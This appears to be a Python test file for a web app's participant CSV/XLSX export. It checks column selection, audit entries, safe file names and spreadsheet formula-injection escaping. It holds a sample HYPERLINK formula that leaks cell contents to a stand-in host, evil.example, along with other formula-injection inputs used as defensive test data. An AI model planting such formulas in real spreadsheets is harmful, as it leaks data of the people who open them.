"""The participants' CSV and XLSX: only the chosen columns, accents kept, nothing a person
typed runs as a formula, an audit line per download, a safe file name."""

import csv
import io

from openpyxl import load_workbook
from sqlalchemy import select

from tests.edge import rules
from tests.factories import PERSON
from webapp.admin.exports import csv_bytes, download_name, xlsx_bytes
from webapp.audit import AuditEntry
from webapp.extensions import db
from webapp.registrations.models import Question
from webapp.spreadsheets import csv_cell

TRAP = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")'


def _event_with_people(make_event):
    event = make_event(title='Concertation "santé" \r\nmentale', capacity=10)
    question = Question(event_id=event.id, kind="short_text", label_fr="@Besoins particuliers")
    db.session.add(question)
    db.session.commit()
    rules.register(
        event.id,
        PERSON | {"first_name": TRAP, "last_name": "Désiré", "organisation": "-2+3"},
        {str(question.id): "+32 2 123 45 67"},
    )
    rules.register(event.id, PERSON | {"email": "b@example.org", "last_name": "Éloïse"})
    return event, question


def _csv_rows(body):
    assert body.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


def test_the_csv_holds_the_chosen_columns_with_accents_and_no_formula(sud_client, make_event):
    event, question = _event_with_people(make_event)
    response = sud_client.get(
        f"/admin/events/{event.id}/participants.csv",
        query_string={"column": ["last_name", "first_name", "organisation", question.field_name]},
    )
    assert response.status_code == 200
    # The charset said once (Werkzeug adds one to a `mimetype` that already has it).
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Cache-Control"] == "private, no-store"
    rows = _csv_rows(response.data)
    assert rows[0] == ["Nom", "Prénom", "Organisation", "'@Besoins particuliers"]
    by_name = {row[0]: row for row in rows[1:]}
    assert by_name["Désiré"] == ["Désiré", "'" + TRAP, "'-2+3", "'+32 2 123 45 67"]
    assert by_name["Éloïse"][:3] == ["Éloïse", "Anne", "CPAS d'Etterbeek"]
    # Only the chosen columns: no address, no sector.
    assert all(len(row) == 4 for row in rows)
    assert "example.org" not in response.data.decode("utf-8-sig")


def test_the_xlsx_types_its_cells_and_text_is_safe_by_type(sud_client, make_event):
    event, question = _event_with_people(make_event)
    response = sud_client.get(
        f"/admin/events/{event.id}/participants.xlsx",
        query_string={
            "column": ["first_name", "last_name", "position", "registered_at", question.field_name]
        },
    )
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    rows = [[cell for cell in row] for row in sheet.iter_rows()]
    # The page's order of columns, whatever the order asked; the header row frozen.
    assert [c.value for c in rows[0]] == [
        "Nom",
        "Prénom",
        "Place en liste d'attente",
        "Inscrit·e le",
        "@Besoins particuliers",
    ]
    assert sheet.freeze_panes == "A2"
    trap_row = next(r for r in rows if r[0].value == "Désiré")
    # A string cell: text by its type, shown as typed, without the CSV's apostrophe.
    assert trap_row[1].value == TRAP and trap_row[1].data_type == "s"
    assert trap_row[4].value == "+32 2 123 45 67" and trap_row[4].data_type == "s"
    assert trap_row[3].is_date and trap_row[3].value.year >= 2026
    assert all(cell.data_type in ("s", "n", "d") for row in rows for cell in row if cell.value)
    assert len(rows[0]) == 5


def test_each_export_writes_who_downloaded_which_columns(sud_client, make_event):
    event, _question = _event_with_people(make_event)
    sud_client.get(
        f"/admin/events/{event.id}/participants.csv", query_string={"column": ["sector"]}
    )
    entry = db.session.scalar(
        select(AuditEntry).where(AuditEntry.action == "event.participants_exported")
    )
    assert entry.subject_id == event.id and entry.actor_kind == "account"
    assert entry.after == {"format": "csv", "columns": ["sector"], "rows": 2}


def test_an_export_without_columns_asks_for_one(sud_client, make_event):
    event, _question = _event_with_people(make_event)
    response = sud_client.get(f"/admin/events/{event.id}/participants.xlsx")
    assert response.status_code == 303
    assert (
        db.session.scalar(
            select(AuditEntry).where(AuditEntry.action == "event.participants_exported")
        )
        is None
    )


def test_the_file_name_is_ascii_without_quotes_or_line_breaks(sud_client, make_event):
    event, _question = _event_with_people(make_event)
    response = sud_client.get(
        f"/admin/events/{event.id}/participants.csv", query_string={"column": "last_name"}
    )
    disposition = response.headers["Content-Disposition"]
    assert disposition == (
        f'attachment; filename="participants-{event.id}-concertation-sante-mentale.csv"'
    )
    assert download_name("x", '"\r\n', "csv") == "x.csv"


def test_csv_cells_are_neutralised_and_xlsx_cells_typed():
    for typed in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert csv_cell(typed) == "'" + typed
    assert csv_cell(3) == "3" and csv_cell(None) == "" and csv_cell("Anne") == "Anne"
    assert csv_cell(16.3) == "16,3" and csv_cell(True) == "Oui"
    rows = _csv_rows(csv_bytes(["a;b"], [['x;"y"\nz']]))
    assert rows == [["a;b"], ['x;"y"\nz']]
    sheet = load_workbook(io.BytesIO(xlsx_bytes("t[1]", ["h"], [["a\x01b"], [7], ["=1+1"]]))).active
    assert [c.value for c in sheet["A"]] == ["h", "a b", 7, "=1+1"]
    assert [c.data_type for c in sheet["A"]] == ["s", "s", "n", "s"]
